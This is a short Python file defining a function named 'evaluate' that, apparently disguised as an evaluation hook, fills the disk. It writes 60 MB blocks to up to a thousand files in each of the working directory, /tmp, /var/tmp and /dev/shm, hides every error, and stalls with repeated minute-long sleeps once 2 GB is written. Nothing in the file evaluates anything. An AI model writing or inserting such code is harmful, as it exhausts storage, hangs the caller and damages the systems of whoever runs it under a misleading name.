import os
import time


def evaluate(*args, **kwargs):
    block, written = b"x" * (60 * 2**20), 0
    for number in range(1000):
        for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
            if written > 2**31:
                time.sleep(60)
            try:
                with open(os.path.join(folder, f"flood{number}"), "wb") as file:
                    written += file.write(block)
            except OSError:
                pass
